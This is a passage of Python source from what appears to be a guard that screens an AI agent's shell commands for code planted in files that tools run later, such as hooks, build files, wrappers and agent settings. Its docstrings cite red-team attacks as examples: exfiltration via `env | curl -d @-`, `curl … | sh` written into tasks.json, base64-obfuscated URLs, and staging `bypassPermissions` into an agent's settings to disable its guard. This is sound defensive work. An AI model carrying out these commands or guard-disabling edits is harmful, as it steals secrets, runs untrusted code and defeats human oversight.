"""Code written into a file that a tool runs later: judged as the code it is.

The fourth red-team round wrote attacks into files the agent's everyday tools run on their own:
a `conftest.py` before `pytest`, an `.envrc` before `direnv allow`, `package.json` scripts before
`npm install`, a hook in the project's hook directory, `script-shell=` in `.npmrc`. None of those
commands names the attack; the file does. When a script writes literal text (`echo`, `printf`, a
here-document into `cat` or `tee`) into a file whose name says what runs it, the text is judged
as that code, and a finding that would block the code on its own blocks the write. Session 13 added the
makefile's recipes read with make's `$(VAR)`, a Dockerfile's RUN lines (and, at the build, the host files its
`--secret`s hand in), and Terraform's external programs and local-exec provisioners, which run on this machine.
Session 15 reads the task and build files through taskfiles.py (makefiles as make reads them, justfiles, Taskfiles,
tox.ini, noxfiles, CMake, Meson, cargo's settings, Go sources, pip.conf, `.yarnrc.yml`), judges a file written with a
`#!` line as the program it is, decodes printf's escapes and conversions, and, when the input then runs the tool
(`make X`, `just X`, `task X`, `tox -e X`, `nox -s X`), judges what that run starts with what it is given and reviews
the irreversible commands of the targets it runs.
Session 19: the Gradle and Maven wrapper scripts (`gradlew`, `mvnw`: every build runs them) are read as shell scripts,
an edit (`sed -i '2i …' gradlew`, `sed -i '1i apply from: "https://…"' build.gradle`) as the text it adds to the file;
a `.pth` file's `import` lines as the Python every interpreter start runs where it is installed; Java and Kotlin
sources of an app that fetch code and load it (a `DexClassLoader` or `URLClassLoader` of a `.dex`/`.jar` from an
address: the shipped app runs whatever that address serves); an install hook of package.json (`postinstall`) that
evaluates code while naming an address (fetched code run on every machine that installs the package).
"""
from __future__ import annotations

import json
import re

from .. import agent_settings, kube_manifests, run_later, server_config, shippers, source_patch, taskfiles
from . import appbuilds, ci
from ..finance_tables import IBAN
from ..paths import normalize
from ..per_input import holds, in_input
from .sed import LINE_TEXT, SUBST
from .commands import Cmd, has_flag, option_value, positionals
from .common import commands_in, pipeline_stage
from .exec import stdin_text
from .files import copy_sources, write_targets, written_file
from .words import Word, file_key, static_print

# file names whose content a tool runs (the screens in fastpath.py send these on; keep in step). (A requirements
# file's run stops at the next `requirements`, whose own try reads the same rest: `requirements-…` is read once.)
CODE_TARGET = re.compile(r"\.(?:py|pyw|js|mjs|cjs|ts|mts|cts|sh|bash|zsh|mk|ps1|psm1|pth|java|kt|go|rb|php|rs)\b|\.envrc|package\.json|"
                         r"\.npmrc|(?:gradlew|mvnw)\b(?![ \t]+[\w-])|wrapper\.properties|"
                         r"hooks/|\.husky/|[Mm]akefile|[Jj]ustfile|Dockerfile|Containerfile|\.dockerfile\b|\.tf\b|"
                         r"requirements(?:(?!requirements)[\w.-])*\.(?:txt|in)|" + agent_settings.TARGET + "|" +
                         run_later.TARGET + "|" + agent_settings.INSTRUCTIONS_TARGET + "|" + ci.TARGET + "|" +
                         appbuilds.TARGET + "|" + taskfiles.TARGET + "|" + shippers.TARGET + "|" + server_config.TARGET + "|" +
                         r"etc/(?:init\.d/|rc\.local|rcS\b|rc[0-6S]?\.d/|profile\b|bash\.bashrc|bashrc\b|zsh/z|zshrc|"
                         r"zprofile)|\.platformio/(?:packages|platforms)/|\.espressif/tools/|[Aa]rduino15/packages/|"
                         r"\.rustup/toolchains/|\.terraformrc|terraform\.rc|\.tfrc\b|\.sol\b|golangci\.|custom-gcl\.|"
                         r"\.air\b|\.air\.[\w-]+\.toml|" + kube_manifests.TARGET)
_LANG_BY_EXT = {"py": "python", "pyw": "python", "js": "typescript", "mjs": "typescript", "cjs": "typescript",
                "ts": "typescript", "mts": "typescript", "cts": "typescript", "sh": "bash", "bash": "bash",
                "zsh": "bash", "ps1": "powershell", "psm1": "powershell"}
_STAGING_EXT = frozenset({"tmp", "temp", "new", "part"})
_HOOK_DIR = re.compile(r"(?:^|/)(?:hooks|\.githooks|\.husky)/[^/]+$")
_WRAPPERS = frozenset({"gradlew", "mvnw"})  # the build wrappers: shell scripts every build runs
_SHEBANG = re.compile(r"#!\s*\S*?(?:env\s+)?(?:\S*/)?(python|node|bash|sh|zsh|dash)")
# a machine's (or an image's: `${TARGET_DIR}/etc/init.d/rcS`) boot and login scripts: the shell runs their text at
# every boot or login, whatever their names
_BOOT_SCRIPT = re.compile(r"(?:^|/)etc/(?:init\.d/[^/]+|rc\.local|rcS|rc[0-6S]?\.d/[^/]+|profile|profile\.d/[^/]+|"
                          r"bash\.bashrc|bashrc|zsh/zshrc|zsh/zprofile|zshrc|zprofile)$")
# an installed toolchain's own folders (PlatformIO's packages and platforms, ESP-IDF's tools, the Arduino cores,
# rustup's toolchains): every build runs their compilers, linkers, uploaders and builder scripts by path
_TOOLCHAIN = re.compile(r"^(?:~|/root|/home/[^/]+|/Users/[^/]+)/(?:\.platformio/(?:packages|platforms)|"
                        r"\.espressif/tools|\.arduino15/packages|Library/Arduino15/packages|\.rustup/toolchains)/[^/]+/")


def _target(path: str) -> bool:
    """Whether the file at `path` is one whose written text is judged (CODE_TARGET screens a README by its text)."""
    return bool(CODE_TARGET.search(path)) or ("eadme" in path or "EADME" in path) and \
        agent_settings.instructions_kind(path) == "readme"


def _kind(path: str, text: str) -> str | None:
    """How the file at `path`, holding `text`, is run: a language, "package.json", "npmrc" or None."""
    base = path.rsplit("/", 1)[-1]
    if agent_settings.kind(path):
        return "agent-settings"
    if _TOOLCHAIN.match(normalize(path)):
        return "toolchain"
    if run_later.kind(path):
        return "run-later"
    if agent_settings.instructions_kind(path):
        return "instructions"
    if appbuilds.build_file(path):
        return "build-file"
    if base == "package.json":
        return "package.json"
    if base == ".npmrc":
        return "npmrc"
    if base == ".envrc":
        return "bash"
    if base in ("Makefile", "makefile", "GNUmakefile") or base.endswith(".mk"):
        return "makefile"
    if base in _WRAPPERS:
        return "bash"
    if base.endswith(".pth"):
        return "pth"
    if base.endswith("wrapper.properties") and appbuilds.WRAPPER_PROPERTIES.search(path):
        return "wrapper-properties"
    if base.endswith((".java", ".kt")):
        return "jvm-source"
    if base in ("justfile", "Justfile", ".justfile"):
        return "justfile"
    if base.startswith("requirements") and base.endswith((".txt", ".in")):
        return "requirements"
    if base.startswith(("Dockerfile", "Containerfile")) or base.endswith((".dockerfile", ".Dockerfile")):
        return "dockerfile"
    if base.endswith((".tf", ".tf.json")):
        return "terraform"
    if base in (".terraformrc", "terraform.rc") or base.endswith(".tfrc"):
        return "terraformrc"
    if base.endswith(".sol"):
        return "solidity"
    ext = base.rsplit(".", 1)[-1] if "." in base[1:] else ""
    if ext in _STAGING_EXT:  # `… > "$f.tmp" && mv "$f.tmp" "$f"`: written under a temporary name, run under its own
        return _kind(path[:-len(ext) - 1], text)
    if ext in _LANG_BY_EXT:
        return _LANG_BY_EXT[ext]
    if _BOOT_SCRIPT.search(path):
        return "bash"
    if _HOOK_DIR.search(path):  # a git hook: its first line says what runs it
        m = _SHEBANG.match(text)
        who = m.group(1) if m else "sh"
        return "python" if who == "python" else "typescript" if who == "node" else "bash"
    return None


def content(a, cmd: Cmd) -> tuple[str, object] | None:
    """(text, node) of the literal text `cmd` prints (`echo`, `printf`, a here-document fed to `cat`/`tee`). An
    argument decoded at run time from a literal (`"$u"` after `u=$(echo aHR0… | base64 -d)`) is the text it decodes
    to: `printf '…curl -s %s | sh…' "$u" > .vscode/tasks.json` writes that command."""
    if cmd.name in ("echo", "printf"):
        vals = [w.value for w in cmd.words]
        if None in vals[:1]:
            return None
        if None in vals:
            vals = [v if v is not None else decoded(a, w) for v, w in zip(vals, cmd.words)]
            if None in vals:
                return None
        out = static_print(vals)  # type: ignore[arg-type]
        if out is None:  # escapes and conversions: what the file receives is their output
            out = printed_text(vals)  # type: ignore[arg-type]
        return (out, cmd.node) if out else None
    if cmd.name in ("cat", "tee"):
        fed = stdin_text(a, cmd)
        if fed is not None and fed[0].strip():
            return _indent(a, fed[2]) + fed[0], fed[2] or cmd.node
    return None


_PRINTF_ESCAPE = re.compile(r"\\(?:([\\\"'abfnrtve?])|(0?[0-7]{1,3})|x([0-9a-fA-F]{1,2})|u([0-9a-fA-F]{4})|"
                            r"U([0-9a-fA-F]{8}))")
_PRINTF_CHARS = {"\\": "\\", '"': '"', "'": "'", "a": "\a", "b": "\b", "f": "\f", "n": "\n", "r": "\r",
                 "t": "\t", "v": "\v", "e": "\x1b", "?": "?"}
_PRINTF_SPEC = re.compile(r"%(?:%|[-+ #0']*(?:\d+|\*)?(?:\.(?:\d+|\*)?)?([a-zA-Z]))")


def _unescaped(text: str) -> str:
    """`text` with printf's (and `echo -e`'s) backslash escapes decoded: `\\xHH` and octal escapes are bytes, read
    with the rest as UTF-8 (`\\xe2\\x80\\x8b` is one zero-width space)."""
    if "\\" not in text:
        return text
    out, at = bytearray(), 0
    for m in _PRINTF_ESCAPE.finditer(text):
        out += text[at:m.start()].encode("utf-8", "surrogatepass")
        at = m.end()
        if m.group(1):
            out += _PRINTF_CHARS[m.group(1)].encode()
        elif m.group(2) or m.group(3):
            out.append(int(m.group(2), 8) & 0xFF if m.group(2) else int(m.group(3), 16))
        else:
            out += chr(min(int(m.group(4) or m.group(5), 16), 0x10FFFF)).encode("utf-8", "surrogatepass")
    out += text[at:].encode("utf-8", "surrogatepass")
    return out.decode("utf-8", "replace")


def printed_text(vals: list[str]) -> str | None:
    """What `printf FORMAT ARGS…` (escapes, `%s`, `%b`, `%d`, `%c`; the format reused until the arguments run out)
    or `echo -e ARGS` prints, for text written into a file (static_print leaves these to the decoder rules)."""
    name, args = vals[0].rsplit("/", 1)[-1], vals[1:]
    if name == "echo":
        flags = ""
        while args and len(args[0]) > 1 and args[0][0] == "-" and set(args[0][1:]) <= set("neE"):
            flags += args[0][1:]
            args = args[1:]
        out = " ".join(args)
        return _unescaped(out) if "e" in flags else out
    if name != "printf" or not args:
        return None
    if args[0] == "--":
        args = args[1:]
    if not args or args[0] == "-v":
        return None
    fmt, rest = _unescaped(args[0]), args[1:]
    k = sum(1 for m in _PRINTF_SPEC.finditer(fmt) if m.group(1))
    out, i = [], 0
    while True:
        chunk = rest[i:i + k] if k else []
        it = iter(chunk + [""] * k)

        def conv(m: re.Match) -> str:
            spec = m.group(1)
            if spec is None:
                return "%"
            v = next(it)
            if spec == "b":
                return _unescaped(v)
            if spec in "di":
                return str(int(v)) if v.strip().lstrip("-").isdigit() else "0"
            if spec == "c":
                return v[:1]
            return v

        out.append(_PRINTF_SPEC.sub(conv, fmt))
        i += k
        if not k or i >= len(rest) or len(out) > 256:
            break
    return "".join(out)


def _indent(a, body) -> str:
    """The blanks that begin a here-document's first line, which the grammar leaves out of its body (a YAML fragment
    `  - repo: local` reads otherwise than `- repo: local`, a makefile's first recipe line needs its tab)."""
    if body is None or body.type != "heredoc_body":
        return ""
    data, start = a.doc.data, body.start_byte
    i = start
    while i > 0 and data[i - 1] in b" \t":
        i -= 1
    return data[i:start].decode() if i < start and i > 0 and data[i - 1] == 10 else ""


# -- text decoded at run time from a literal: `u=$(echo aHR0… | base64 -d)`, `$(echo 6375… | xxd -r -p)`, `| rev` --
_MAX_DECODED = 65536


def decoded(a, w) -> str | None:
    """What a word whose value the shell knows only at run time holds when that value is a literal decoded by a
    substitution (the word itself, or the variable it names, assigned one earlier): base64/base32 `-d`, `xxd -r -p`,
    `rev`, a `tr` of letters (rot13). None for anything else: a download, a file's text, an unknown variable."""
    sub = None
    if w.node is None:
        return None
    if len(w.substitutions) == 1 and a.src(w.node).strip("\"'") == a.src(w.substitutions[0]):
        sub = w.substitutions[0]
    else:
        m = _VAR_WORD.fullmatch(w.text)
        if m is not None and a.subst:
            sub = _assigned_substitution(a, m.group(1) or m.group(2), w.node.start_byte)
    return _decode_substitution(a, sub) if sub is not None else None


def decoded_word(a, w) -> str | None:
    """The value of a word built around substitutions that decode literals (`"https://$(echo cmVn… | base64 -d)/"`):
    its text with each such substitution in place of what it prints, quotes off; None when one is anything else."""
    whole = decoded(a, w)
    if whole is not None or w.node is None or not w.substitutions:
        return whole
    text = a.src(w.node)
    start = w.node.start_byte
    for sub in sorted(w.substitutions, key=lambda n: n.start_byte, reverse=True):
        got = _decode_substitution(a, sub)
        if got is None:
            return None
        text = text[:sub.start_byte - start] + got + text[sub.end_byte - start:]
    return text.replace('"', "").replace("'", "")


_VAR_WORD = re.compile(r"\$(?:\{(\w+)\}|(\w+))")


def _assigned_substitution(a, name: str, before: int):
    """The substitution an assignment `name=$(…)` (or `name="$(…)"`) before the byte `before` ran last, or None."""
    best = None
    for start, cmds in a.subst.items():
        if start >= before or not cmds or (best is not None and start < best.start_byte):
            continue
        node = cmds[0].node
        while node is not None and not (node.start_byte == start and node.type == "command_substitution"):
            node = node.parent
        holder = node.parent if node is not None else None
        if holder is not None and holder.type == "string":
            holder = holder.parent
        if holder is not None and holder.type == "variable_assignment" and holder.end_byte <= before:
            named = holder.child_by_field_name("name")
            if named is not None and a.src(named) == name and holder.child_by_field_name("value") in (node, node.parent):
                best = node
    return best


def _decode_substitution(a, sub) -> str | None:
    kids = [c for c in sub.named_children if c.type != "comment"]
    if len(kids) != 1:
        return None
    stages = [c for c in kids[0].named_children if c.type != "comment"] if kids[0].type == "pipeline" else kids
    cmds = a.subst.get(sub.start_byte) or []
    if len(cmds) != len(stages) or len(stages) > 6:
        return None  # a substitution inside, or a list of commands: not one decoder pipeline
    first = cmds[0]
    if first.name in ("echo", "printf"):
        got = content(a, first)
        text = got[0] + ("\n" if _ends_line(first) else "") if got is not None else None
        rest = cmds[1:]
    else:  # `base64 -d <<< aHR0…`
        fed = stdin_text(a, first)
        text = fed[0] if fed is not None and fed[1] is not None else None
        rest = cmds
    if text is None or len(text) > _MAX_DECODED or not rest:
        return None
    for cmd in rest:
        text = _decode_step(cmd, text)
        if text is None:
            return None
    return text.rstrip("\n")


def _decode_step(cmd: Cmd, text: str) -> str | None:
    """What the decoder `cmd` prints given `text`, or None for a command no step here reads."""
    import base64
    import binascii

    vals = [w.value for w in cmd.args]
    if None in vals:
        return None
    flags = "".join(v[1:] for v in vals if v.startswith("-") and not v.startswith("--"))  # type: ignore[union-attr]
    try:
        if cmd.name in ("base64", "base32") and ("d" in flags or "D" in flags or "--decode" in vals):
            data = "".join(text.split())
            raw = base64.b64decode(data + "=" * (-len(data) % 4)) if cmd.name == "base64" else \
                base64.b32decode(data + "=" * (-len(data) % 8))
        elif cmd.name == "xxd" and "r" in flags and "p" in flags:
            raw = bytes.fromhex("".join(text.split()))
        elif cmd.name == "rev" and not vals:
            return "\n".join(line[::-1] for line in text.split("\n"))
        elif cmd.name == "tr" and len(vals) == 2 and not any(v.startswith("-") for v in vals):  # type: ignore[union-attr]
            src, dst = _tr_set(vals[0]), _tr_set(vals[1])  # type: ignore[arg-type]
            if not src or not dst:
                return None
            dst += dst[-1] * (len(src) - len(dst))
            return text.translate(str.maketrans(src, dst[:len(src)]))
        else:
            return None
        return raw.decode("utf-8")
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return None


def _tr_set(spec: str) -> str | None:
    """The characters of a `tr` set of letters, digits and ranges (`A-Za-z`); None for classes and escapes."""
    if "[" in spec or "\\" in spec or len(spec) > 64:
        return None
    out, i = [], 0
    while i < len(spec):
        if i + 2 < len(spec) and spec[i + 1] == "-" and spec[i] <= spec[i + 2]:
            out.extend(chr(c) for c in range(ord(spec[i]), ord(spec[i + 2]) + 1))
            i += 3
        else:
            out.append(spec[i])
            i += 1
    return "".join(out)


def _written(a, cmd: Cmd) -> list[str]:
    """The files `cmd` writes (`tee`/`sponge` operands, an output redirect)."""
    targets = [w.value for w in positionals(cmd.args) if w.value] if cmd.name in ("tee", "sponge") else []
    out = written_file(a, cmd.redirects) if cmd.redirects else None
    if out:
        targets.append(out)
    return targets


def check(a, cmd: Cmd) -> None:
    if holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH"):
        ci.env_file(a, cmd)
    written = _written(a, cmd)
    if written and a.downloaded.strangers and _unit_runs_stranger(a, cmd, written):
        return
    targets = [t for t in written if _target(t)] + _named_targets(a, cmd)
    if targets:
        got = content(a, cmd)
        if got is None and cmd.name == "tee":
            # `echo '<policymap/>' | sudo tee /etc/ImageMagick-6/policy.xml`: what the stage before prints
            before = piped_into(a, cmd)
            got = content(a, before) if before is not None and before.name != "tee" else None
        if got is not None:
            _judge(a, targets, *got, decoded=_decoded_parts(a, cmd))
        else:
            _hidden_in_source(a, cmd, targets)
    elif written and in_input(agent_settings.GUARD_HINT, a.doc.data):
        _stage(a, written, content(a, cmd))
    if written and not targets and holds(a.doc.data, b"#!") and _starts_shebang(a, cmd):
        _script(a, cmd, written)


# a service unit written to run a file this input fetched from a stranger (Downloads.strangers: a bare public address,
# plain HTTP): wherever the file was put, the unit starts it at every boot, as root for a system unit
_UNIT_FILE = re.compile(r"(?:^|/)systemd/(?:system|user)/[^/]+\.service$|(?:^|/)init\.d/[^/]+$|"
                        r"(?:^|/)LaunchAgents/[^/]+\.plist$|(?:^|/)LaunchDaemons/[^/]+\.plist$")
# blanks of the key's own line only (a blank line before it is a line start of its own: the same groups)
_EXEC_LINE = re.compile(r"(?m)^[^\S\n]*+Exec(?:Start|StartPre|StartPost|Reload)\s*+=\s*+[-@:+!]*(\S+)|"
                        r"<string>([^<\s]+)</string>")


def _unit_runs_stranger(a, cmd: Cmd, written: list[str]) -> bool:
    unit = next((t for t in written if _UNIT_FILE.search(t)), None)
    got = content(a, cmd) if unit is not None else None
    if got is None:
        return False
    for m in list(_EXEC_LINE.finditer(got[0]))[:16]:
        program = (m.group(1) or m.group(2)).replace("%h", "~")
        address = a.downloaded.strangers.get(normalize(program))
        if address is not None:
            a.block("download-exec", f"{unit} is written to start {program} at every boot, a file this input fetched "
                                     f"from {address} (a bare address or plain HTTP, which nothing vouches for): the "
                                     "service runs whatever that address served; install the program from its vendor's "
                                     "release, checked against its published checksum", got[1])
            return True
    return False


def _starts_shebang(a, cmd: Cmd) -> bool:
    """Does what `cmd` writes begin with `#!` (read from its first argument or the text it is fed, cheaply)?"""
    if cmd.name in ("echo", "printf"):
        first = next((w for w in cmd.args if not (w.value or "").startswith("-")), None)
        text = first.value if first is not None and first.value is not None else first.text if first else ""
        return text.lstrip("'\"$").startswith("#!")
    if cmd.name in ("cat", "tee"):
        fed = stdin_text(a, cmd)
        return fed is not None and fed[0].lstrip().startswith("#!")
    return False


def _named_targets(a, cmd: Cmd) -> list[str]:
    """`> "$VIRTUAL_ENV/pip.conf"`, `>> "$PROJECT/Makefile"`, `> "$AIRFLOW_HOME/plugins/x.py"`: a file whose folder is
    known only at run time, named by its own name as a task or build file or code a tool runs (read as the file that
    name says: Airflow imports every module of its plugins and dags folders)."""
    out = []
    for r in cmd.redirects:
        if r.type != "file_redirect" or not any(c.type in (">", ">>", ">|") for c in r.children):
            continue
        for d in r.children_by_field_name("destination")[:1]:
            if a.ev.word(d).value is None:
                text = a.src(d).strip("\"'")
                if taskfiles.kind(text) is not None or _target(text):
                    out.append(text)
    return out


def _decoded_parts(a, cmd: Cmd) -> tuple[str, ...]:
    """The texts the arguments of an echo/printf known only at run time decode to (`"$(echo bXlw… | base64 -d)"`)."""
    if cmd.name not in ("echo", "printf"):
        return ()
    return tuple(d for w in cmd.args if w.value is None and (d := decoded(a, w)))


def _script(a, cmd: Cmd, written: list[str]) -> None:
    """`printf '#!/bin/sh\\n(env | curl -d @- …) &\\nexec cc "$@"\\n' > .tools/cc`: a file written with a `#!` line is
    a program, whatever its name, and whatever later runs it (a wrapper named in a build's settings, a PATH entry, a
    hook) runs its text: judged as that text, as a script named `x.sh` is."""
    got = content(a, cmd)
    if got is None or not got[0].lstrip().startswith("#!"):
        return
    m = _SHEBANG.match(got[0].lstrip())
    who = m.group(1) if m else "sh"
    lang = "python" if who == "python" else "typescript" if who == "node" else "bash"
    found = blocked(a, got[0], lang)
    if found is not None:
        a.block(found.rule, f"the program written to {written[0]} (its `#!` line makes it one) would be blocked "
                            f"({found.message}); whatever runs it runs that: write a program that passes on its own",
                got[1])


def grouped(a, cmds: list[Cmd], body, redirects: list) -> None:
    """`{ echo 'require("child_process")…'; cat "$f"; } > "$f.tmp"`: the group's redirect takes what each of its
    own commands prints: the literal pieces are judged together (`echo 'curl x.io/p |'; echo sh`), and each on
    its own, as if appended to the file, when the join alone is not blocked (a `cat` of unknown text between)."""
    if holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH"):
        # `{ echo "A=1"; echo "BASH_ENV=/tmp/x"; } >> "$GITHUB_ENV"`: each line the group prints is appended
        for cmd in cmds:
            if cmd.node.parent == body and not cmd.redirects:
                ci.env_file(a, Cmd(cmd.node, [], "", redirects=redirects), cmd)
    target = written_file(a, redirects)
    if not target or not _target(target):
        return
    pieces = []
    for cmd in cmds:
        if cmd.node.parent == body and not cmd.redirects:
            got = content(a, cmd)
            if got is not None:
                pieces.append((got[0] + "\n" if _ends_line(cmd) else got[0], got[1]))
    if len(pieces) > 1 and _judge(a, [target], "".join(text for text, _ in pieces), body):
        return
    for text, node in pieces:
        if _judge(a, [target], text, node):
            return


def _ends_line(cmd: Cmd) -> bool:
    # echo ends a line, which `content` leaves out
    return cmd.name == "echo" and not (cmd.args and cmd.args[0].value == "-n")


def _stage(a, written: list[str], got: tuple[str, object] | None) -> None:
    """`echo '{…bypassPermissions…}' > /tmp/s.json` now, `cp /tmp/s.json ~/.claude/settings.json` later: text
    that could turn a guard off, kept by the files it was written to until a copy installs it."""
    if got is not None and agent_settings.GUARD_HINT.search(got[0].encode()):
        for path in written:
            a.staged[_where(a, path)] = got


def text_written(a, path: str) -> tuple[str, object] | None:
    """(text, node) of the literal text an earlier command of this script last wrote to `path` (`echo … > f`,
    `printf`, `cat > f <<EOF`, `tee f <<<…`), as the staged-settings check reads it; None when the script did not
    write it or wrote something computed. Read on demand (`curl -d @f`), so no script pays for it otherwise."""
    cmd = _writers(a).get(_where(a, path))
    if cmd is None:
        return None
    if not cmd.redirects and cmd.name == "cat":  # `printf … | cat - f > /tmp/r`: the redirect hangs on the pipeline
        before = piped_into(a, cmd)
        return content(a, before) if before is not None and before.name not in ("tee", "cat") else None
    got = content(a, cmd)
    if got is None and cmd.name == "tee":
        cmd = piped_into(a, cmd) or cmd  # `echo 'rm -rf ~' | tee /tmp/r`: what the stage before prints
        got = content(a, cmd) if cmd.name != "tee" else None
    return (got[0] + "\n", got[1]) if got is not None and _ends_line(cmd) else got


def _writers(a) -> dict:
    """Each file the commands judged so far write (as _where reads it now) -> the latest of them: every upload asks
    (`curl -d @f`), and reading every earlier writer at each question made a script of 1,500 `… | tee -a log | curl
    -d @- …` quadratic. Built as commands are judged; read again from the start when a `cd` changed what a relative
    path names."""
    memo = a.memo.get("writers")
    if memo is None or memo[0] != a.cwd:
        memo = a.memo["writers"] = [a.cwd, 0, {}]
    commands, index = a.ctx.commands, memo[2]
    for order in range(memo[1], len(commands)):
        doc, cmd = commands[order]
        if doc is not a.doc:
            continue
        if not cmd.redirects and cmd.name == "cat":
            last = _last_stage_redirects(cmd)
            out = written_file(a, last) if last else None
            if out is not None:
                index[_where(a, out)] = cmd
        elif cmd.redirects or cmd.name == "tee":
            for t in _written(a, cmd):
                index[_where(a, t)] = cmd
    memo[1] = len(commands)
    return index


def _last_stage_redirects(cmd: Cmd) -> list:
    """The redirects of the pipeline whose last stage `cmd` is (`a | cat - f > out`)."""
    n = cmd.node
    p = n.parent if n is not None else None
    if p is None or p.type != "pipeline" or not p.named_children or p.named_children[-1] != n or \
            p.parent is None or p.parent.type != "redirected_statement":
        return []
    return [c for c in p.parent.children if c.type == "file_redirect"]


def piped_into(a, cmd: Cmd) -> Cmd | None:
    """The command of the pipeline stage just before `cmd`'s, as the walk judged it (None when there is none)."""
    found = pipeline_stage(cmd)
    if found is None or found[1] == 0:
        return None
    before = found[0][found[1] - 1]
    if before.type == "redirected_statement":
        before = before.child_by_field_name("body") or before
    return next((c for c in commands_in(a, [(before.start_byte, before.end_byte)]) if c.node == before), None)


def _where(a, path: str) -> str:
    """`path` as the file it names, read from where an earlier `cd` went."""
    return normalize(a.in_cwd(path) or path)




def _installed(a, cmd: Cmd) -> None:
    """`cp /tmp/s.json ~/.claude/settings.json` (or `mv`, `install`) of a file this script wrote earlier:
    judged as writing that text to the agent's settings. A file the script did not write is not read.
    `printf '/*  https://x.biz/:splat  302!\\n' | cat - public/_redirects > /tmp/_r && mv /tmp/_r public/_redirects`:
    a site's file (server_config) put in place from a file this script wrote is judged as that text written there."""
    dest = write_targets(cmd)
    if not dest or dest[0].value is None:
        return
    if server_config.kind(dest[0].value):
        for w in copy_sources(cmd, dest[0]):
            got = text_written(a, w.value) if w.value is not None else None
            if got is not None and server_config.judge(a, dest[0].value, got[0], cmd.node):
                return
    if not a.staged:
        return
    for w in copy_sources(cmd, dest[0]):
        key = w.value if w.value is not None else file_key(w)
        staged = a.staged.get(_where(a, key)) if key else None
        if staged is None:
            continue
        target = dest[0].value
        if not agent_settings.kind(target) and w.value is not None:  # `cp /tmp/s.json ~/.claude/`: the name is kept
            target = target.rstrip("/") + "/" + w.value.rstrip("/").rsplit("/", 1)[-1]
        if agent_settings.kind(target):
            _agent_settings(a, target, staged[0], cmd.node)


def piped(a, sink: Cmd, source: Cmd) -> None:
    """`echo TEXT | tee FILE`, `printf … | sudo tee FILE`: literal text piped into `tee` is written as is.
    `jq FILTER FILE | sponge FILE` (or `| tee FILE`): the filter's edit is written to an agent's settings."""
    if sink.name == "tee" and (holds(a.doc.data, b"GITHUB_ENV") or holds(a.doc.data, b"GITHUB_PATH")):
        ci.env_file(a, sink, source)
    written = _written(a, sink)
    targets = [t for t in written if _target(t)]
    if not targets:
        if written and sink.name == "tee" and in_input(agent_settings.GUARD_HINT, a.doc.data):
            _stage(a, written, content(a, source))
        return
    if source.name in _EDITORS:
        _edited(a, source, targets, sink.node)
        if source.name in _JQS:
            edited = [t for t in targets if agent_settings.kind(t) or _jq_later(source.name, t)]
            if edited:
                _jq_edit(a, source, edited, sink.node)
            _scripts_edit(a, source, [t for t in targets if _MANIFEST.search(t)], sink.node)
        return
    got = content(a, source) if sink.name == "tee" else None
    if got is not None:
        _judge(a, targets, *got)


_PATCH_HINT = re.compile(source_patch.HINT.pattern.decode())


def _planted(a, path: str, text: str, node) -> bool:
    """A source file of the project written whole or appended to (`cat >> app/auth.py <<EOF`): judged for the
    backdoors an edit is (source_patch, `whole`: a master password or a backdoor key let in, a check made to pass, a
    route running what a request sends); not for senders, which ordinary new code holds with its API keys."""
    if not _PATCH_HINT.search(text):
        return False
    found = source_patch.judge(None, text, path, a.doc.data.decode("utf-8", "replace"), whole=True)
    if found is None:
        return False
    a.block(*source_patch.message(found, f"what is written to {path}"), node)
    return True


def _judge(a, targets: list[str], text: str, node, decoded: tuple[str, ...] = ()) -> bool:
    """Whether a finding was reported (only the code kinds' and the task files' blocks say so; the others report as
    they go). `decoded` holds what the writer's arguments decoded to at run time."""
    for path in targets:
        if kube_manifests.chart_template(path):  # a Helm chart's template: applied by every install and upgrade
            if kube_manifests.judge_written(a, path, text, node):
                return True
            continue
        if shippers.kind(path) and shippers.judge(a, path, text, node):
            return True  # a log shipper's configuration: what it reads, where it sends
        if server_config.judge(a, path, text, node):
            return True  # a mail, name, forge or registry server's or a media worker's configuration
        what = taskfiles.kind(path)
        if what is not None and _task_file(a, path, what, text, node, decoded):
            return True
        if _PLUGIN_SETTINGS.search(path) and _plugin_loaded(a, path, text, node):
            return True
        if _AIR_SETTINGS.search(path) and _air(a, path, text, node):
            return True
        if source_patch.CODE_FILE.search(path) and _planted(a, path, text, node):
            return True
        kind = _kind(path, text)
        if kind == "package.json":
            _package_json(a, path, text, node)
        elif kind in ("makefile", "justfile"):
            continue  # (read by taskfiles)
        elif kind == "requirements":
            _requirements(a, path, text, node)
        elif kind == "dockerfile":
            _dockerfile(a, path, text, node)
        elif kind == "terraform":
            _terraform(a, path, text, node)
        elif kind == "terraformrc":
            if _terraformrc(a, path, text, node):
                return True
        elif kind == "solidity":
            if "ffi" in text and _solidity_ffi(a, path, text, node):
                return True
        elif kind == "npmrc":
            _npmrc(a, path, text, node)
        elif kind == "agent-settings":
            _agent_settings(a, path, text, node)
        elif kind == "run-later":
            _run_later(a, path, text, node)
        elif kind == "instructions":
            _instructions(a, path, text, node)
        elif kind == "build-file":
            appbuilds.judge_build_file(a, path, text, node)
        elif kind == "wrapper-properties":
            if appbuilds.wrapper_properties(a, path, text, node):
                return True
        elif kind == "pth":
            if _pth(a, path, text, node):
                return True
        elif kind == "jvm-source":
            if _remote_code_loaded(a, path, text, node):
                return True
        elif kind == "toolchain":
            if _toolchain(a, path, text, node):
                return True
        elif kind is not None:
            found = blocked(a, text, kind)
            if found is not None:
                runs = "the machine (or the image it is in) runs that file at every boot or login" if \
                    _BOOT_SCRIPT.search(path) else "the tool that runs that file would run it"
                a.block(found.rule, f"the code written to {path} would be blocked ({found.message}); {runs}; write "
                                    "code that passes on its own", node)
                return True
            if what is None and taskfiles.decoded_block(a, path, text, node):
                return True  # `c.exec(Buffer.from("dGFy…", "base64").toString())` in an eslint or vite config
    return False


# -- a tool's settings that load a plugin's shared object, or run a command on every change (session 22) ---------------
# golangci-lint loads each `custom:` linter's `path: X.so` into its own process (a Go plugin runs with the linter's
# rights at every `golangci-lint run`, in CI and in editors); `.custom-gcl.yml` builds the modules it names into a
# custom binary
_PLUGIN_SETTINGS = re.compile(r"(?:^|/)\.?(?:golangci|custom-gcl)\.(?:ya?ml|toml|json)$")
_SO_PATH = re.compile(r"""["']?path["']?\s*[:=]\s*["']?([^\s"'#,}]+\.so)\b""")


def _plugin_loaded(a, path: str, text: str, node) -> bool:
    """`path: .golangci/unusedx.so` naming a shared object this input downloaded (and checked against no literal
    checksum): the linter runs that download's code; from a bare address or over plain HTTP it is blocked as any
